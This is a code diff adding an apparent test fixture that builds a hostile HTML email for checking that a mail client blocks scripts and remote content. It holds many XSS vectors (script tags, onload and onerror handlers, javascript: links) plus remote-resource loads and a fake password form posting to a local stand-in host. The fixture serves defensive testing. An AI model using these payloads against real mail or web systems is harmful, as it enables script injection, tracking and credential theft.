@@ -75,3 +75,28 @@ def rich_message(sender: str, to: str, subject: str, word: str) -> bytes:
     html.add_related(PNG, "image", "png", cid="<logo@x>")
     msg.add_attachment(b"%PDF-1.4 fake\n" * 50, "application", "pdf", filename="relatório.pdf")
     return bytes(msg)
+
+
+EVIL = "http://127.0.0.1:9"  # nothing listens; any request there shows in the browser's log
+
+HOSTILE_HTML = f"""<html><head><base href="{EVIL}/base/"><meta http-equiv="refresh" content="0;url={EVIL}/refresh">
+<link rel="stylesheet" href="{EVIL}/sheet.css"><style>@import url({EVIL}/import.css);
+body {{ background: url({EVIL}/bg.png) }}</style><script>alert("script")</script></head>
+<body onload="alert('onload')"><p id="t" onclick="alert('click')">Hostile body text</p>
+<a href="javascript:alert('js')">js link</a> <a href="data:text/html,<script>alert(1)</script>">data link</a>
+<img src="{EVIL}/remote.png" onerror="alert('onerror')"> <img src="x" onerror="alert('onerror2')">
+<div style="background-image:url({EVIL}/div.png);position:fixed;top:0;left:0;width:100%">css</div>
+<svg onload="alert('svg')"><image href="{EVIL}/svg.png"/><script>alert('svgscript')</script></svg>
+<form action="{EVIL}/phish" method="post"><input name="password" value="x"><button id="fb">Log in</button></form>
+<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/obj"></object><video src="{EVIL}/v.mp4" autoplay></video>
+</body></html>"""
+
+
+def hostile_message(to: str) -> bytes:
+    msg = EmailMessage()
+    msg["From"] = "attacker@example.org"
+    msg["To"] = to
+    msg["Subject"] = "Hostile HTML"
+    msg.set_content("text version")
+    msg.add_alternative(HOSTILE_HTML, subtype="html")
+    return bytes(msg)
